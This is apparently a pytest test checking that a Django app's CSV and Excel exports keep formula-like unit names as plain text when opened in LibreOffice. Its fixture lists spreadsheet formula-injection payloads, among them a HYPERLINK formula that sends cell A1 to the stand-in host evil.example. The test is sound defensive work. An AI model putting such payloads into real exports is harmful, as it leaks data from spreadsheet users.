"""A unit named like a formula stays a name in every file the product exports: the files are
opened by LibreOffice (what an official's spreadsheet does with them) and read back."""

from __future__ import annotations

import io
import os
import subprocess
import tempfile
from pathlib import Path
from types import SimpleNamespace

from django.utils import timezone
from openpyxl import load_workbook

from cases.models import RankingExclusion, Unit
from tests.helpers import api

NAMES = {
    "S1": '=HYPERLINK("http://evil.example/?"&A1,"Sở Tư pháp")',
    "S2": "+1+2",
    "S3": "-3+4",
    "S4": "@SUM(1;2)",
    "X1": "\t=1+1",
    "X2": "\r=2+2",
}
REASON = "=1+1"


def _named_like_formulas(scored: SimpleNamespace) -> None:
    for code, name in NAMES.items():
        Unit.objects.filter(code=code).update(name=name)
    RankingExclusion.objects.create(
        case=scored.cases["S5"], reason=REASON, decided_by=scored.leader, decided_at=timezone.now()
    )


def _open_in_libreoffice(files: dict[str, bytes]) -> dict[str, list[tuple[object, str]]]:
    """Each file converted to .xlsx by LibreOffice: every cell's (value, type) of all sheets."""
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch)
        (folder / "in").mkdir()
        for name, content in files.items():
            (folder / "in" / name).write_bytes(content)
        subprocess.run(
            [
                "soffice",
                "--headless",
                "--infilter=CSV:44,34,76,1",  # comma, double quote, UTF-8, from line 1
                "--convert-to",
                "xlsx",
                "--outdir",
                str(folder / "out"),
                *(str(folder / "in" / name) for name in files),
            ],
            env={**os.environ, "HOME": scratch},
            check=True,
            capture_output=True,
            timeout=120,
        )
        cells: dict[str, list[tuple[object, str]]] = {}
        for name in files:
            book = load_workbook(folder / "out" / (Path(name).stem + ".xlsx"))
            cells[name] = [
                (cell.value, cell.data_type)
                for sheet in book.worksheets
                for row in sheet.iter_rows()
                for cell in row
                if cell.value is not None
            ]
        return cells


def test_texts_that_look_like_formulas_are_written_as_texts(scored: SimpleNamespace) -> None:
    _named_like_formulas(scored)
    client = api(scored.secretariat)
    base = f"/api/v1/cycles/{scored.cycle.pk}"
    files = {
        "results.csv": client.get(f"{base}/results.csv").content,
        "results.xlsx": client.get(f"{base}/results.xlsx").content,
        "survey.csv": client.get(f"{base}/survey/template.csv").content,
        "survey.xlsx": client.get(f"{base}/survey/template.xlsx").content,
    }

    # Our own Excel files: string cells, the value untouched, kept as text when edited.
    for name in ("results.xlsx", "survey.xlsx"):
        book = load_workbook(io.BytesIO(files[name]))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        for unit_name in NAMES.values():
            # XML reads a carriage return back as a line feed
            found = [c for c in cells if c.value in (unit_name, unit_name.replace("\r", "\n"))]
            assert found, (name, unit_name)
            for cell in found:
                assert (cell.data_type, cell.quotePrefix) == ("s", True), (name, unit_name)
    # CSV has no types: what a spreadsheet makes of it is the test.
    opened = _open_in_libreoffice({n: files[n] for n in ("results.csv", "survey.csv")})

    for name, values in opened.items():
        formulas = [value for value, kind in values if kind == "f"]
        assert formulas == [], name
        texts = {str(value).lstrip("'") for value, kind in values if kind == "s"}
        for unit_name in NAMES.values():
            assert any(unit_name.strip() in text for text in texts), (name, unit_name)
